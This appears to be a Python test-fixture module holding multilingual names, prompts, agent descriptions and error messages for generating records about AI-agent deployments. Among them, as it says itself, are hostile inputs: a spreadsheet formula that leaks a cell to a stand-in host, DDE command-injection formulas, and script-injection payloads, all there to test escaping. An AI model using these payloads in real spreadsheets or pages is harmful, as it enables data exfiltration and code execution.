"""Names, descriptions, prompts and messages of generated records, in several languages, a few of them hostile."""

# ruff: noqa: RUF001, E501, ISC004 - text in many scripts, as people write it, a paragraph a value

from __future__ import annotations

#: Name and description of examples that an account of some dozen deployments has, in this order.
EXAMPLES = (
    ("每日销售日报", "汇总昨日订单，按区域、渠道拆分；异常波动超过 20% 时在群里提醒。"),
    ('=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1-800-555-0100, call before changing"),
    ("<img src=x onerror=alert(1)>", "<script>alert('description')</script> & \"quotes\""),
    ("Nightly backup, verify & report", 'Checks "cold" and "hot" copies, then writes\nline one\r\nline two\n'),
    ("تقرير المبيعات اليومي", "يجمع طلبات الأمس ويرسل ملخصًا قصيرًا إلى الفريق."),
    ("Еженедельный отчёт", "Собирает метрики за неделю; при сбое — повторить вручную."),
    ("🚀 release notes 👩‍💻", "Drafts release notes 📝 from merged pull requests 🎉"),
    ("דוח שבועי", "מסכם את השבוע"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ("週次レポート（東京）", "先週の問い合わせを分類し、上位の原因をまとめる。"),
    ("주간 보안 점검", "열린 포트와 만료 예정 인증서를 확인한다."),
    ("साप्ताहिक रिपोर्ट", "पिछले सप्ताह की गतिविधि का सारांश"),
    ("Zoë’s naïve café ☕ test", "Combining: é ñ; \u202eright to left\u202c; zero\u200bwidth; tab\there"),
    ("=1+1", "＝full width, ＋ and － and ＠"),
    ("Αναφορά κόστους", "Κόστος ανά ομάδα, σε €; ελέγχει τα όρια."),
    ("รายงานประจำวัน", "สรุปยอดขายเมื่อวาน"),
    ("a name that is as long as a name may be, because somebody pasted the first paragraph of the ticket into it " * 2, ""),
)  # fmt: skip

#: For each language, words that are joined in every combination: when or where, and what.
_PARTS = (
    (" ", ("Nightly", "Daily", "Weekly", "Monthly", "Morning", "Hourly", "Weekend", "Billing:", "Platform:", "Retail:",
           "Finance:", "Search:", "Mobile:", "Legal:"),
     ("invoice check", "log triage", "dependency update", "inbox summary", "price watch", "churn forecast",
      "data quality check", "backup audit", "release notes", "cost digest", "support labels", "contract review",
      "stock sync", "translation review", "meeting notes", "security scan", "survey digest", "status report",
      "incident review", "pipeline check")),
    ("", ("每日", "每周", "华东", "华南", "财务", "客服", "仓库", "夜间"),
     ("库存同步", "舆情监测", "工单质检", "数据校验", "日报汇总", "合同审阅", "对账检查", "日志分析")),
    ("", ("毎朝の", "週次", "東京の", "夜間"), ("在庫チェック", "リリースノート", "請求書確認", "障害レポート", "問い合わせ分類")),
    (" ", ("Tägliche", "Wöchentliche", "Monatliche"), ("Rechnungsprüfung", "Lagerübersicht", "Kostenanalyse")),
    (" ", ("Ежедневный", "Еженедельный"), ("отчёт по затратам", "разбор журналов", "обзор задач")),
    (" ", ("Synthèse quotidienne", "Synthèse hebdomadaire"), ("des ventes", "des incidents", "du support")),
    (" ", ("تدقيق", "ملخص"), ("الفواتير", "المبيعات")),
)  # fmt: skip
#: Names for the many, each in one language; a number is put behind when they repeat.
NAMES = tuple(
    f"{first}{space}{second}" for space, firsts, seconds in _PARTS for first in firsts for second in seconds
)

AGENTS = (
    ("Report writer", "Collects figures and writes reports."),
    ("Ledger clerk", "Compares invoices with orders."),
    ("Code reviewer", "Reads pull requests and comments on them."),
    ("Release manager", "Drafts release notes and checks versions."),
    ("数据分析师", "读取报表，解释异常。"),
    ("Support triage", "Labels tickets by product and severity."),
    ("Security scanner", ""),
    ("在庫管理アシスタント", "在庫と発注を照合する。"),
    ("Meeting assistant", "Summarises meetings."),
    ("Kostenprüfer", "Vergleicht Kosten mit dem Budget."),
    ("Log analyst", "Groups errors by cause."),
    ("Translator", "Translates product texts."),
)
SYSTEMS = (
    "You are a careful analyst. Quote a source for every number.",
    "You are an expert software engineer. Run the tests before you say that something works.",
    "You sort incoming requests. When in doubt, ask.",
)
MODELS = ("ultimate", "performance", "efficient", "auto")
ENVIRONMENTS = (
    ("Production", "For what runs unattended.", ("curl", "jq")),
    ("Staging", "", ("curl",)),
    ("Data science", "With the usual Python packages.", ("python3-pip",)),
    ("安全沙箱", "不允许访问外网。", ()),
    ("Playground", "For experiments.", ("git", "curl")),
)
TITLES = (
    "Why did the export fail?", "Draft a migration plan", "帮我整理会议纪要", "Compare two vendors",
    "Fix the flaky test", "障害の原因を調べる", "Rename the service", "Summarise the survey",
)  # fmt: skip
REPLIES = (
    "Done. Nothing unusual was found.",
    "The report is ready: 3 changes, 1 open risk.",
    "已完成：共处理 42 条记录，2 条需要人工确认。",
    "I updated the draft & opened a pull request.",
)
FOLLOW_UPS = (
    "Please do it once more with yesterday's data.",
    "请再检查一遍。",
    "Thanks. Add a summary at the top.",
)
#: Messages of errors that pass.
PASSING = ("Upstream timed out.", "The model is overloaded.", "Connection reset by peer")

DESCRIPTIONS = (
    "Reads yesterday's records, compares them with the same weekday of the last four weeks, and says what changed.",
    "Runs before the stand-up. Owner changes every sprint; ask in the channel first.",
    "按团队汇总昨日数据，生成摘要并发送到指定群组；失败时自动重试。",
    "Prüft alle offenen Rechnungen, meldet Abweichungen über 2 %, und legt Tickets an.",
    "Собирает журналы за ночь и группирует ошибки по причине.",
    'Temporary, to be replaced by the event-driven one; see the design note, section 4, "hand-over".',
    "",
)  # fmt: skip

PROMPTS = (
    "Generate today's status report. Start with what changed since the last one, then list open risks with their "
    "owners, and end with three numbers: runs, failures, cost. Keep it below two hundred words. If a source cannot "
    "be read, say which one and continue with the others; do not guess.",
    "读取昨日全部工单，按产品线与严重程度分类，给出前五个根因，并为每个根因写一条可执行的改进建议。"
    "无法归类的工单单独列出，不要猜测。最后用一句话总结趋势，与上周同日比较。",
    "Review every dependency that has a newer minor version. For each: read its change log, note anything that "
    "breaks us, run the tests of the affected package, and open a draft change with a summary. Skip what is pinned "
    "with a reason. Never touch the lock file by hand.",
    "Vergleiche die Lagerbestände der drei Standorte mit den Bestellungen der Woche. Liste Artikel, die in weniger "
    "als fünf Tagen ausgehen, mit Lieferzeit und Vorschlag. Rechne mit Feiertagen. Schreibe kurz und ohne Wertung.",
    "Проверь журналы за последние сутки: новые ошибки, их частоту и первый момент появления. Сгруппируй по причине, "
    "приложи по одному примеру на группу и предложи, что проверить сначала. Известные ошибки не повторяй.",
)
SYSTEM_PROMPT = "You work unattended. Ask nobody. When in doubt, stop and say why. Write times in UTC."
OUTCOME = "A report that a reader who was on holiday understands, with a source for every number."
RUBRIC = "Every number has a source; every risk has an owner; nothing is longer than it needs to be."

TEAMS = ("data", "platform", "growth", "finance", "support", "安全", "sre", "legal & risk")
OWNERS = (
    "li.na",
    "maria",
    "o'brien",
    "zhang.wei",
    "ivan",
    "fatima",
    "kenji",
    "ana.souza",
    "tom",
    "priya",
    "李娜",
    "sofía",
)

#: Messages by error type, in the order of `run_history.ERRORS`.
MESSAGES = (
    ("The session did not finish within {timeout} ms.",),
    (
        "Tool `bash` exited with status 127: sh: 1: jq: not found",
        "Tool `web_fetch` failed: <html><body>502 Bad Gateway</body></html>",
        'Tool `sql` failed: relation "orders, 2026" does not exist\nLINE 1: select * from "orders, 2026"',
        "=cmd|'/C calc'!A0",
    ),
    ("Rate limit of the model was exceeded; retry after 30 s.", "Kontingent erschöpft: 1.000.000 Token / Tag"),
    ("The model is overloaded.", "模型暂时过载，请稍后重试。"),
    ("Vault item is not readable by this agent.", "403 for https://git.example.invalid/acme/<private>?a=1&b=2"),
    ("Internal error.", "unexpected EOF", "Внутренняя ошибка <script>alert(document.domain)</script>"),
)
#: Errors of runs that pause a deployment.
PAUSE_ERRORS = (
    ("vault_not_found_error", "The vault was not found."),
    ("vault_archived_error", "The vault is archived."),
    ("file_not_found_error", "The file /data/in.csv was not found."),
    ("memory_store_archived_error", "The memory store is archived."),
    ("skill_not_found_error", "The skill was not found."),
    ("session_resource_not_found_error", "A resource of the session was not found."),
    ("mcp_egress_blocked_error", "The environment does not allow access to the MCP server."),
    ("unknown_error", "The session could not be created."),
)
#: Errors of runs that do not.
RATE_LIMITED = ("session_rate_limited_error", "Too many sessions were created.")
REJECTED = ("session_creation_rejected_error", "The deployment already has as many running sessions as it may.")
